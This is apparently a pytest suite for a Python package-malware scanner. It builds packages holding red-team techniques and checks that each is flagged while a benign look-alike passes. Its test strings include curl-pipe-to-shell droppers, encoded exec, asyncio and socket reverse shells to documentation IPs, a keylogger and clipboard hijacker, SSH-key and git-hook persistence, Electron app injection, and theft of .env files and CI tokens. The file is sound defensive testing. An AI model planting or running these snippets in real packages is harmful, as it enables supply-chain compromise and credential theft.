"""Side doors to the sinks, found by a red team: other ways to run code, start processes,
connect, persist and steal than the ones the first rules knew.

Each technique is built into a real sdist or wheel and scanned; the test checks the
verdict the heuristics give (fail, warn, pass through :func:`finding_reasons` and the
default policy), the rule, and that a benign look-alike (the same API used the way
ordinary packages use it) stays information.
"""

from __future__ import annotations

import base64

import pytest
from test_heuristics import scan

from shouldi.policy import Policy
from shouldi.results import Severity
from shouldi.verdict.report import Verdict
from shouldi.verdict.rules import finding_reasons

C, H, M = Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM
DROPPER = "import os\nos.system('curl -s http://203.0.113.5/x | sh')\n"
SETUP_TAIL = "\nfrom setuptools import setup\nsetup(name='demo', version='1.0', packages=['demo'])\n"
SCRIPT_ENTRY = "[console_scripts]\ndemo = demo.cli:main\n"


def verdict(result):
    given = {r.verdict for r in finding_reasons(result, Policy())}
    return next((v for v in (Verdict.FAIL, Verdict.WARN) if v in given), Verdict.PASS)


def rules_at(result, *severities):
    return {f.rule for f in result.findings if f.severity in severities}


def init(code):
    return {"demo/__init__.py": code}


def check(tmp_path, files, expected, rule=None, severities=(C, H), wheel=True):
    result = scan(tmp_path, files, wheel)
    shown = sorted((f.rule, f.severity.name, f.message[:90]) for f in result.findings)
    assert verdict(result) is expected, shown
    if rule is not None:
        assert rule in rules_at(result, *severities), shown
    return result


# -- 1. code run without exec ----------------------------------------------------------------------

def test_runpy_of_a_downloaded_file_in_setup_fails(tmp_path):
    setup = ("import os, runpy, tempfile, urllib.request\n"
             "p = os.path.join(tempfile.gettempdir(), 'stage2.py')\n"
             "urllib.request.urlretrieve('https://raw.example/tools/bootstrap.py', p)\n"
             "runpy.run_path(p, run_name='__main__')\n" + SETUP_TAIL)
    result = check(tmp_path, {"setup.py": setup, "demo/__init__.py": ""}, Verdict.FAIL,
                   "drop-and-run", (C,), wheel=False)
    assert any(f.line == 4 for f in result.findings if f.rule == "drop-and-run")


def test_runpy_of_the_packages_own_script_in_a_cli_is_information(tmp_path):
    files = {"demo/__init__.py": "",
             "demo/cli.py": "import os, runpy\n\ndef main():\n"
                            "    runpy.run_path(os.path.join(os.path.dirname(__file__), 'tool.py'))\n"
                            "    runpy.run_module('demo.tool', run_name='__main__')\n",
             "demo/tool.py": "print('tool')\n",
             "demo-1.0.dist-info/entry_points.txt": SCRIPT_ENTRY}
    check(tmp_path, files, Verdict.PASS)


@pytest.mark.parametrize("code", [
    "import code, urllib.request\n"
    "src = urllib.request.urlopen('https://gist.example/raw/cfg.py').read().decode()\n"
    "code.InteractiveInterpreter().runsource(src, '<cfg>', 'exec')\n",
    "import code, urllib.request\nconsole = code.InteractiveConsole()\n"
    "for line in urllib.request.urlopen('https://gist.example/raw/cfg.py').read().decode().splitlines():\n"
    "    console.push(line)\n",
    "from code import InteractiveInterpreter\nimport requests\n"
    "InteractiveInterpreter().runcode(compile(requests.get('https://x.example/c').text, 'c', 'exec'))\n",
], ids=["runsource", "console-push", "runcode"])
def test_an_interpreter_running_downloaded_source_at_import_fails(tmp_path, code):
    check(tmp_path, init(code), Verdict.FAIL, "download-exec", (C,))


def test_a_repl_the_user_starts_is_information(tmp_path):
    files = {"demo/__init__.py": "",
             "demo/repl.py": "import code\n\ndef interact():\n"
                             "    console = code.InteractiveConsole(locals={'__name__': '__console__'})\n"
                             "    while True:\n        console.push(input('>>> '))\n\n"
                             "def banner():\n    code.interact(banner='demo')\n"}
    check(tmp_path, files, Verdict.PASS)


@pytest.mark.parametrize("put", ["sys.path.insert(0, z)", "sys.path.append(z)",
                                 "import site\nsite.addsitedir(z)",
                                 "import zipimport\nzipimport.zipimporter(z).load_module('payload')"])
def test_a_downloaded_zip_made_importable_fails(tmp_path, put):
    code = ("import os, sys, tempfile\nimport requests\n"
            "z = os.path.join(tempfile.gettempdir(), 'cache.zip')\n"
            "with open(z, 'wb') as f:\n"
            "    f.write(requests.get('https://github.example/assets/core.zip').content)\n"
            f"{put}\n__import__('payload').run()\n")
    check(tmp_path, init(code), Verdict.FAIL, "drop-and-run", (C,))


def test_the_packages_own_directory_on_sys_path_is_information(tmp_path):
    code = ("import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), '_vendor'))\n"
            "import six\n")
    check(tmp_path, init(code), Verdict.PASS)


def test_bytecode_loaded_without_source_at_import_warns(tmp_path):
    code = ("import importlib.machinery, importlib.util, os\n"
            "p = os.path.join(os.path.dirname(__file__), '_core.pyc')\n"
            "loader = importlib.machinery.SourcelessFileLoader('demo_core', p)\n"
            "loader.exec_module(importlib.util.module_from_spec("
            "importlib.util.spec_from_loader('demo_core', loader)))\n")
    check(tmp_path, {**init(code), "demo/_core.pyc": b"\x00" * 32}, Verdict.WARN,
          "obfuscated-code", (M,))


def test_a_plugin_loader_of_py_files_is_information(tmp_path):
    files = {"demo/__init__.py": "",
             "demo/plugins.py": "import importlib.util, pathlib\n\ndef load(folder):\n"
                                "    for p in pathlib.Path(folder).glob('*.py'):\n"
                                "        spec = importlib.util.spec_from_file_location(p.stem, p)\n"
                                "        spec.loader.exec_module(importlib.util.module_from_spec(spec))\n"}
    check(tmp_path, files, Verdict.PASS)


def test_exec_of_a_downloaded_file_fails_and_of_a_data_file_at_startup_warns(tmp_path):
    dropped = ("import urllib.request\np = '/tmp/stage.txt'\n"
               "urllib.request.urlretrieve('https://x.example/s', p)\nexec(open(p).read())\n")
    check(tmp_path / "a", init(dropped), Verdict.FAIL, "drop-and-run", (C,))
    pth = ("import os, sys; exec(open(os.path.join(sys.prefix, 'share', 'demo', 'boot.cfg'))"
           ".read())\n")
    check(tmp_path / "b", {"demo/__init__.py": "", "demo.pth": pth}, Verdict.WARN,
          "obfuscated-code", (M,))


def test_exec_of_the_packages_version_file_in_setup_is_information(tmp_path):
    setup = "exec(open('demo/_version.py').read())\n" + SETUP_TAIL
    check(tmp_path, {"setup.py": setup, "demo/__init__.py": "", "demo/_version.py":
                     "__version__ = '1.0'\n"}, Verdict.PASS, wheel=False)


# -- 2. decoders and exec reached through the builtins ----------------------------------------------

CODES = [ord(c) for c in DROPPER]


@pytest.mark.parametrize("code", [
    f"_b = {CODES}\nexec(bytes(_b).decode())\n",
    f"_b = {CODES}\nexec(bytearray(_b).decode('utf-8'))\n",
    f"_b = {CODES}\nexec(''.join(map(chr, _b)))\n",
    "_A = 'abcdefghijklmnopqrstuvwxyz'\n_B = 'zyxwvutsrqponmlkjihgfedcba'\n"
    f"_S = {DROPPER.translate(str.maketrans('abcdefghijklmnopqrstuvwxyz', 'zyxwvutsrqponmlkjihgfedcba'))!r}\n"
    "exec(_S.translate(str.maketrans(_A, _B)))\n",
], ids=["bytes-name", "bytearray", "map-chr-name", "maketrans"])
def test_numbers_and_substitution_ciphers_are_decoders(tmp_path, code):
    result = check(tmp_path, init(code), Verdict.FAIL, "exec-decoded-data", (C,))
    assert "download-exec" in rules_at(result, C, H)  # the decoded curl | sh is read as code


@pytest.mark.parametrize("code", [
    "MAGIC = bytes([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0])\n",
    "LEET = str.maketrans('aeio', '4310')\n\ndef leet(s):\n    return s.translate(LEET)\n",
    "TABLE = 'Straße'.translate(str.maketrans('ß', 's'))\n",
], ids=["magic-bytes", "leet", "normalise"])
def test_decoding_that_runs_nothing_is_information(tmp_path, code):
    check(tmp_path, init(code), Verdict.PASS)


PACKED = base64.b64encode(DROPPER.encode()).decode()


@pytest.mark.parametrize("lookup", [
    "vars(__builtins__).get('exec')",
    "(__builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)).get('exec')",
    "__builtins__.__dict__['exec']",
    "getattr(builtins, 'ex' + 'ec')",
    "globals()['__builtins__']['exec'] if isinstance(globals()['__builtins__'], dict) else "
    "getattr(globals()['__builtins__'], 'exec')",
    "(lambda g: getattr(g['__builtins__'] if isinstance(g['__builtins__'], dict) else "
    "vars(g['__builtins__']), 'get')('exec'))(globals())",
], ids=["vars-get", "either-get", "dunder-dict", "getattr", "globals", "lambda"])
def test_exec_looked_up_in_the_builtins_is_exec(tmp_path, lookup):
    code = (f"import base64, builtins\nrun = {lookup}\n" if "lambda" not in lookup else
            "import base64, builtins\n")
    call = "run" if "lambda" not in lookup else lookup
    code += f"{call}(base64.b64decode({PACKED!r}))\n"
    check(tmp_path, init(code), Verdict.FAIL, "exec-decoded-data", (C,))


def test_six_style_exec_lookup_of_a_literal_is_information(tmp_path):
    code = ("import builtins\nexec_ = vars(builtins).get('exec')\n"
            "exec_('def reraise(tp, value):\\n    raise value\\n')\n")
    check(tmp_path, init(code), Verdict.PASS)


# -- 3. the C library and the Windows API through ctypes ---------------------------------------------

@pytest.mark.parametrize("code", [
    "import ctypes, ctypes.util\nlibc = ctypes.CDLL(ctypes.util.find_library('c'))\n"
    "libc.system(b'curl -fsSL http://203.0.113.9/x.sh | sh')\n",
    "import ctypes\nctypes.cdll.LoadLibrary('libc.so.6').popen(b'wget -qO- http://x.example/i | sh', b'r')\n",
    "import ctypes\nlibc = ctypes.CDLL('libc.so.6')\n"
    "argv = (ctypes.c_char_p * 4)(b'/bin/sh', b'-c', b'curl -s http://x.example/x | sh', None)\n"
    "libc.execve(b'/bin/sh', argv, None)\n",
], ids=["system", "popen", "execve"])
def test_libc_starting_a_download_and_run_is_download_exec(tmp_path, code):
    check(tmp_path, init(code), Verdict.FAIL, "download-exec")


def test_libc_system_of_a_plain_command_is_a_process_spawn(tmp_path):
    code = "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.system(b'stty sane')\n"
    check(tmp_path, init(code), Verdict.WARN, "process-spawn", (M,))


CLIPPER = """\
import ctypes, threading, time

def _clip():
    u32, k32 = ctypes.windll.user32, ctypes.windll.kernel32
    while True:
        if u32.OpenClipboard(0):
            h = u32.GetClipboardData(13)
            u32.SetClipboardData(13, h)
            u32.CloseClipboard()
        time.sleep(0.5)

threading.Thread(target=_clip, daemon=True).start()
"""


def test_a_clipboard_watcher_started_at_import_is_spyware(tmp_path):
    check(tmp_path, init(CLIPPER), Verdict.FAIL, "spyware", (H,))


def test_a_keylogger_through_user32_is_spyware(tmp_path):
    code = ("import ctypes\nuser32 = ctypes.WinDLL('user32')\n"
            "pressed = [k for k in range(256) if user32.GetAsyncKeyState(k) & 1]\n")
    check(tmp_path, init(code), Verdict.FAIL, "spyware", (H,))


def test_ctypes_for_a_gui_is_information(tmp_path):
    code = ("import ctypes\n\ndef paste():\n    u32 = ctypes.windll.user32\n"
            "    u32.OpenClipboard(0)\n    try:\n        return u32.GetClipboardData(13)\n"
            "    finally:\n        u32.CloseClipboard()\n\n"
            "def alert(text):\n    ctypes.windll.user32.MessageBoxW(0, text, 'demo', 0)\n\n"
            "DPI = ctypes.windll.shcore if hasattr(ctypes, 'windll') else None\n")
    check(tmp_path, init(code), Verdict.PASS)


# -- 4. asyncio ---------------------------------------------------------------------------------------

ASYNC_SHELL = """\
import asyncio

async def _c2():
    r, w = await asyncio.open_connection("198.51.100.23", 8443)
    while True:
        line = await r.readline()
        p = await asyncio.create_subprocess_shell(line.decode(), stdout=asyncio.subprocess.PIPE)
        out, _ = await p.communicate()
        w.write(out)

try:
    asyncio.run(asyncio.wait_for(_c2(), 600))
except Exception:
    pass
"""


def test_an_asyncio_reverse_shell_in_setup_fails(tmp_path):
    result = check(tmp_path, {"setup.py": ASYNC_SHELL + SETUP_TAIL, "demo/__init__.py": ""},
                   Verdict.FAIL, "reverse-shell", (C,), wheel=False)
    assert "shady-endpoint" in rules_at(result, H)  # the raw IP


def test_an_event_loop_connection_to_a_raw_ip_at_import_is_shady(tmp_path):
    code = ("import asyncio\nloop = asyncio.new_event_loop()\n"
            "loop.run_until_complete(loop.create_connection(asyncio.Protocol, '198.51.100.7', 443))\n")
    check(tmp_path, init(code), Verdict.FAIL, "shady-endpoint", (H,))


def test_an_async_client_the_user_calls_is_information(tmp_path):
    code = ("import asyncio\n\nasync def fetch(host, port=6379):\n"
            "    reader, writer = await asyncio.open_connection(host, port)\n"
            "    writer.write(b'PING\\r\\n')\n    return await reader.readline()\n\n"
            "async def version():\n"
            "    p = await asyncio.create_subprocess_exec('git', 'describe', stdout=-1)\n"
            "    return (await p.communicate())[0]\n")
    check(tmp_path, init(code), Verdict.PASS)


# -- 5. tampering with other programs' code -------------------------------------------------------------

@pytest.mark.parametrize("where", [
    "for sp in site.getsitepackages():\n    t = os.path.join(sp, 'requests', '__init__.py')\n",
    "t = os.path.join(sysconfig.get_paths()['purelib'], 'urllib3', '__init__.py')\n",
    "t = os.path.join(os.path.dirname(requests.__file__), 'api.py')\n",
], ids=["getsitepackages", "purelib", "module-file"])
def test_writing_into_another_installed_package_is_persistence(tmp_path, where):
    code = (f"import os, site, sysconfig\nimport requests\n{where}"
            "with open(t, 'a') as fh:\n    fh.write('\\nimport demo._hook\\n')\n")
    check(tmp_path, init(code), Verdict.FAIL, "persistence", (H,))


def test_writing_the_packages_own_directory_is_not_tampering(tmp_path):
    code = ("import os, sysconfig\n"
            "cache = os.path.join(sysconfig.get_paths()['purelib'], 'demo', 'cache.json')\n"
            "open(cache, 'w').write('{}')\n")
    result = scan(tmp_path, init(code), wheel=True)
    assert "persistence" not in rules_at(result, C, H, M) and verdict(result) is not Verdict.FAIL


def test_an_ssh_key_planted_by_an_install_command_fails(tmp_path):
    setup = """\
import os
from setuptools import setup
from setuptools.command.install import install

class PostInstall(install):
    def run(self):
        install.run(self)
        d = os.path.expanduser("~/.ssh")
        with open(os.path.join(d, "authorized_keys"), "a") as fh:
            fh.write("ssh-ed25519 AAAA deploy@build\\n")

setup(name="demo", version="1.0", packages=["demo"], cmdclass={"install": PostInstall})
"""
    check(tmp_path, {"setup.py": setup, "demo/__init__.py": ""}, Verdict.FAIL, "persistence",
          (H,), wheel=False)


def test_global_git_hooks_set_by_setup_fail(tmp_path):
    setup = ("import os, subprocess\nhooks = os.path.expanduser('~/.config/git/hooks')\n"
             "with open(os.path.join(hooks, 'pre-commit'), 'w') as fh:\n"
             "    fh.write('#!/bin/sh\\nexit 0\\n')\n"
             "subprocess.call(['git', 'config', '--global', 'core.hooksPath', hooks])\n"
             + SETUP_TAIL)
    result = check(tmp_path, {"setup.py": setup, "demo/__init__.py": ""}, Verdict.FAIL,
                   "persistence", (H,), wheel=False)
    assert {f.line for f in result.findings if f.rule == "persistence"} == {3, 5}


def test_a_hooks_installer_the_user_runs_is_information(tmp_path):
    files = {"demo/__init__.py": "",
             "demo/cli.py": "import os, subprocess\n\ndef main():\n"
                            "    git_dir = subprocess.check_output(['git', 'rev-parse', '--git-dir']).decode().strip()\n"
                            "    hook = os.path.join(git_dir, 'hooks', 'pre-commit')\n"
                            "    with open(hook, 'w') as fh:\n"
                            "        fh.write('#!/bin/sh\\nexec demo run\\n')\n"
                            "    os.chmod(hook, 0o755)\n"
                            "    with open(os.path.expanduser('~/.git/hooks/pre-push'), 'w') as fh:\n"
                            "        fh.write('')\n",
             "demo-1.0.dist-info/entry_points.txt": SCRIPT_ENTRY}
    check(tmp_path, files, Verdict.PASS)


@pytest.mark.parametrize("target", [
    "glob.glob(os.path.join(os.getenv('LOCALAPPDATA', ''), 'Discord*', 'app-*', 'modules', "
    "'discord_desktop_core-*', 'discord_desktop_core', 'index.js'))",
    "[os.path.expanduser('~/Applications/Slack.app/Contents/Resources/app.asar')]",
], ids=["discord", "asar"])
def test_electron_app_injection_fails(tmp_path, target):
    code = ("import glob, os\nimport requests\n"
            "js = requests.get('https://raw.example/injection/index.js').text\n"
            f"for p in {target}:\n    with open(p, 'w') as f:\n        f.write(js)\n")
    check(tmp_path, init(code), Verdict.FAIL, "persistence", (H,))


# -- 6. .env files and environment tokens ---------------------------------------------------------------

def test_env_files_sent_from_a_submodule_import_fail(tmp_path):
    files = {"demo/__init__.py": "from .compat import *  # noqa\n",
             "demo/compat.py": "from . import _telemetry  # noqa: F401\n",
             "demo/_telemetry.py": """\
import os
import urllib.request

_found = []
for _root in (os.getcwd(), os.path.expanduser("~")):
    _p = os.path.join(_root, ".env")
    if os.path.isfile(_p):
        _found.append(open(_p).read())
if _found:
    urllib.request.urlopen(urllib.request.Request("https://sync.example/u",
                                                  data="\\n".join(_found).encode()))
"""}
    result = check(tmp_path, files, Verdict.FAIL, "exfiltration", (C,))
    assert "credential-access" in rules_at(result, H)


def test_a_dotenv_loader_the_user_calls_is_information(tmp_path):
    code = """\
import os


def load_dotenv(path=".env", override=False):
    if not os.path.isfile(path):
        return False
    with open(path) as fh:
        for line in fh:
            key, _, value = line.strip().partition("=")
            if key and (override or key not in os.environ):
                os.environ[key] = value
    return True
"""
    check(tmp_path, init(code), Verdict.PASS)


ENV_TOKENS = """\
import json, os, urllib.request
keys = ("GITHUB_TOKEN", "PYPI_TOKEN", "AWS_SECRET_ACCESS_KEY")
data = {k: os.environ[k] for k in keys if k in os.environ}
urllib.request.urlopen("https://ci.example/c", data=json.dumps(data).encode())
"""


def test_a_dict_of_environment_tokens_sent_is_exfiltration(tmp_path):
    check(tmp_path / "a", init(ENV_TOKENS), Verdict.FAIL, "exfiltration", (C,))
    in_function = "def pytest_configure(config):\n" + "".join(
        "    " + line + "\n" for line in ENV_TOKENS.splitlines())
    result = check(tmp_path / "b", {"demo/__init__.py": "", "demo/plugin.py": in_function},
                   Verdict.PASS)
    assert any(f.rule == "exfiltration" for f in result.findings)  # told, as information


def test_environment_names_that_are_not_secrets_send_nothing_secret(tmp_path):
    code = ("import os, json, urllib.request\nkeys = ('LANG', 'TERM', 'SHELL')\n"
            "data = {k: os.environ.get(k) for k in keys}\n"
            "urllib.request.urlopen('https://ci.example/c', data=json.dumps(data).encode())\n")
    result = scan(tmp_path, init(code), wheel=True)
    assert "exfiltration" not in rules_at(result, C, H)


def test_env_file_values_sent_at_import_fail(tmp_path):
    code = ("import requests\nfrom dotenv import dotenv_values\n"
            "requests.post('https://collect.example/e', json=dotenv_values('.env'))\n")
    check(tmp_path, init(code), Verdict.FAIL, "exfiltration", (C,))


# -- more side doors -----------------------------------------------------------------------------------

def test_the_c_apis_exec_through_ctypes_is_exec(tmp_path):
    code = (f"import base64, ctypes\nctypes.pythonapi.PyRun_SimpleString("
            f"base64.b64decode({PACKED!r}))\n")
    check(tmp_path, init(code), Verdict.FAIL, "exec-decoded-data", (C,))


def test_a_repl_wired_to_a_socket_is_a_reverse_shell(tmp_path):
    code = ("import code, os, socket\ns = socket.socket()\ns.connect(('198.51.100.4', 4444))\n"
            "for fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\ncode.interact(local={})\n")
    check(tmp_path, init(code), Verdict.FAIL, "reverse-shell", (C,))


def test_python_loaded_from_a_data_file_at_import_warns(tmp_path):
    code = ("import importlib.machinery, os\n"
            "p = os.path.join(os.path.dirname(__file__), 'assets', 'logo.dat')\n"
            "importlib.machinery.SourceFileLoader('demo_logo', p).load_module()\n")
    check(tmp_path, {**init(code), "demo/assets/logo.dat": "print('hi')\n"}, Verdict.WARN,
          "obfuscated-code", (M,))


def test_env_file_templates_are_not_credential_stores(tmp_path):
    code = "import shutil\nTEMPLATE = open('.env.example').read()\nshutil.copy('.env.sample', 'x')\n"
    result = scan(tmp_path, init(code), wheel=True)
    assert "credential-access" not in {f.rule for f in result.findings}
